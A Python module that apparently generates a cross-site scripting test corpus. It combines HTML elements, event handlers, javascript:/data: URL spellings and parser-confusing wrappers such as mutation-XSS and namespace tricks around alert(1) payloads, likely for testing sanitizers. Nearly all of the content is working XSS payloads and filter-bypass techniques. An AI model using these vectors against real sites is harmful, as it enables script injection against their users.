"""Active content by rule: every element with every handler, every place of a URL with every
spelling of a script, and all of it within what changes how a parser reads.

Public suites list such strings one by one; here they are made, so that a new element, handler or
surrounding is one word more. Each calls `alert`, by itself or when it is clicked or focused.
"""

from __future__ import annotations

from collections.abc import Iterator

ELEMENTS = (
    *("a", "abbr", "address", "article", "aside", "audio", "b", "bdi", "bdo", "blockquote", "body"),
    *("button", "canvas", "caption", "cite", "code", "col", "data", "dd", "del", "details", "dfn"),
    *("dialog", "div", "dl", "dt", "em", "embed", "fieldset", "figure", "form", "frameset", "h1"),
    *("hr", "html", "i", "iframe", "img", "input", "ins", "kbd", "label", "li", "link", "map"),
    *("marquee", "menu", "meter", "object", "ol", "option", "p", "picture", "pre", "q", "s"),
    *("search", "section", "select", "source", "span", "style", "summary", "svg", "table", "td"),
    *("template", "textarea", "time", "track", "u", "ul", "video", "xss", "math", "image"),
)
# Those that need nobody's hand, and some that do: names alone decide nothing.
HANDLERS = (
    *("onload", "onerror", "onfocus", "onfocusin", "ontoggle", "onbegin", "onanimationstart"),
    *("onloadstart", "onplay", "onstart", "onpageshow", "onresize", "onscroll", "onclick"),
    *("onbeforetoggle", "onpointerrawupdate", "onsecuritypolicyviolation", "ONERROR", "onXYZ"),
)
_LIVE = (
    "src=x href=# data=x autofocus tabindex=1 open autoplay contenteditable "
    "style='animation-name:x;display:block'"
)
_JOINTS = (" ", "/", "\t", "\n", "\x0c", " x='>' ", ' "')

PLACES = (
    "<a href={0}>x</a>", "<iframe src={0}></iframe>", "<iframe srcdoc={0}></iframe>",
    "<object data={0}></object>", "<embed src={0}>", "<form action={0}><input autofocus></form>",
    "<button formaction={0}>x</button>", "<svg><a href={0}><text>x</text></a></svg>",
    "<svg><a xlink:href={0}><text>x</text></a></svg>", "<svg><use href={0} /></svg>",
    "<svg><animate attributeName=href to={0} /></svg>", "<math><mi xlink:href={0}>x</mi></math>",
    "<svg><script href={0} /></svg>", "<script src={0}></script>", "<base href={0}>",
    "<meta http-equiv=refresh content={0}>", "<link rel=stylesheet href={0}>",
    "<video poster={0} src={0}></video>", "<img src={0} srcset={0}>", "<area href={0}>",
    "<blockquote cite={0}>x</blockquote>", "<table background={0}></table>",
)  # fmt: skip
SCRIPTS = (
    "javascript:alert(1)", "JAVAscript:alert(1)", "&#1;javascript:alert(1)",
    "java&Tab;script:alert(1)", "java&#10;script&colon;alert(1)", "&#x6a;avascript&#58alert(1)",
    "javascript://%0aalert(1)", "data:text/html,<script>parent.alert(1)</script>",
    "data:text/javascript,alert(1)", "data:image/svg+xml,<svg onload=alert(1)>",
    "<script>parent.alert(1)</script>", "&lt;img src=x onerror=parent.alert(1)&gt;",
    "vbscript:alert(1)", "feed:javascript:alert(1)",
)  # fmt: skip
_QUOTES = ('"{}"', "'{}'")

# What a parser reads otherwise, or otherwise the second time.
SURROUNDINGS = (
    "{}", "<svg>{}</svg>", "<math>{}</math>", "<svg><foreignObject>{}</foreignObject></svg>",
    "<svg><desc>{}</desc></svg>", "<svg><title>{}</title></svg>", "<svg><style>{}</style></svg>",
    "<math><mtext>{}</mtext></math>", "<math><annotation-xml encoding='text/html'>{}",
    "<math><mtext><table><mglyph><style><!--</style><img title='-->{}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg></p><style><a id='</style>{}'>", "<template>{}</template>",
    "<template shadowrootmode=open>{}</template>", "<noscript><p title='</noscript>{}'>",
    "<noembed>{}</noembed>", "<noframes>{}</noframes>", "<xmp>{}</xmp>", "<plaintext>{}",
    "<textarea></textarea>{}", "<title></title>{}", "<!-- -->{}<!-- -->", "<!--{}--!>{}",
    "<!-->{}-->", "<![CDATA[{}]]>", "<svg><![CDATA[</svg>{}]]>", "<?x {} ?>", "<!x {}>",
    "<select>{}</select>", "<select><option><style></option></select>{}</style>",
    "<table><tr>{}</tr></table>", "<button><p></button>{}", "<a><a>{}", "<nobr><nobr>{}",
    "<style></style>{}", "<script></script>{}", "<iframe></iframe>{}", "<p title='{}'>", "</p>{}",
    "<frameset>{}</frameset>", "<details open>{}</details>", "<object>{}</object>",
    "<marquee>{}</marquee>", "&lt;{}", "\x00{}", "<b>" * 40 + "{}", "<font><i></font>{}</i>",
)  # fmt: skip
PAYLOADS = (
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>", "<a href=javascript:alert(1) id=hit>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x /></svg>",
    "<math><mi href=javascript:alert(1)>x</mi></math>", "<body onpageshow=alert(1)>",
    "<style>@import 'javascript:alert(1)'</style><img/src/onerror=alert(1)>",
    "<ſcript>alert(1)</ſcript><ımg src=x onerror=alert(1)>",
)  # fmt: skip


def generated() -> Iterator[str]:
    """Every vector; the number is what the lists above make."""
    for row, element in enumerate(ELEMENTS):
        for turn, handler in enumerate(HANDLERS):
            joint = _JOINTS[(row + turn) % len(_JOINTS)]
            yield f"<{element}{joint}{handler}=alert(1){joint}{_LIVE}>x</{element}>"
    for place in PLACES:
        for script in SCRIPTS:
            for quotes in _QUOTES:
                yield place.format(quotes.format(script))
    for outer in SURROUNDINGS:
        for payload in PAYLOADS:
            yield outer.replace("{}", payload)
            for inner in SURROUNDINGS[1::6]:
                yield outer.replace("{}", inner.replace("{}", payload))
